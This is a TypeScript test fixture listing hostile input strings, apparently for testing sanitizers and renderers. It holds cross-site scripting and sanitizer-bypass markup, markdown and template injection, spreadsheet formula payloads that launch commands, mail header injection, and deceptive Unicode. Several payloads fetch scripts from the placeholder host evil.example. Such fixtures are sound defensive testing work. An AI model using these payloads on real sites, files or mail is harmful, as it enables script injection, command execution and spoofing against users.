/**
 * Attacks on a browser, mail program or spreadsheet, as typed text, stored text or a file name. Each one that
 * runs sets `pwned` or requests something from evil.example.
 */
const run = 'window.pwned=1';
const evil = 'https://evil.example';

export const hostileTexts = [
  // Markup that runs.
  `<script>${run}</script>`,
  `"><script src="${evil}/x.js"></script>`,
  `</script><script>${run}</script>`,
  `</title></textarea></style></noscript><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `'"><img src=${evil}/pixel.png onload=${run}>`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">svg</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+"/></svg>`,
  `<details open ontoggle="${run}"><summary>More</summary></details>`,
  `<input autofocus onfocus="${run}"><body onpageshow="${run}">`,
  `<a href="javascript:${run}">link</a> <a href="JaVa&#9;Script:${run}">link</a>`,
  `<a href="data:text/html,<script>${run}</script>" target="_blank">data</a>`,
  `<a href="vbscript:msgbox(1)">vb</a> <a href="${evil}" target="_blank">away</a>`,
  `<iframe src="${evil}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="${evil}/x.swf"></object><embed src="${evil}/x.swf">`,
  `<form action="${evil}"><button formaction="javascript:${run}">Continue</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/">`,
  `<link rel="stylesheet" href="${evil}/x.css"><style>@import "${evil}/x.css";</style>`,
  `<div style="position:fixed;inset:0;background:url(${evil}/x.png);width:expression(${run})">over</div>`,
  `<div id="root" class="btn" name="attributes" data-theme="dark">clobber</div>`,
  // Markup that runs only after a sanitizer has rewritten it.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template><svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  // Markdown.
  `[link](javascript:${run}) [link](<java\tscript:${run}>) <javascript:${run}>`,
  `[ref]\n\n[ref]: data:text/html,<script>${run}</script> "title"`,
  `![x](x"onerror="${run}) ![x](javascript:${run})`,
  '`<img src=x onerror=window.pwned=1>`\n\n```\n</code></pre><script>window.pwned=1</script>\n```',
  // Templates, spreadsheet formulas, mail headers, misleading characters.
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  `=cmd|' /C calc'!A0`,
  `+1-1|cmd`,
  `-2+3+cmd|' /C calc'!D2`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=HYPERLINK("${evil}","Refund")`,
  `\r\n=1+1","=2+2`,
  '＝1+1',
  `Maria\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  '=?utf-8?q?Maria=0D=0ABcc:_victim@evil.example?=',
  'Maria \u202Egnp.exe\u202C \u200b\u200d\ufeff\u2066\u2069 ﷽ Z͑ͫ̓̚a̴l̵g̷o',
  `<!--#exec cmd="ls"--> ]]> <![CDATA[<script>${run}</script>]]> &lt;script&gt; &#x3c;script&#x3e;`,
] as const;
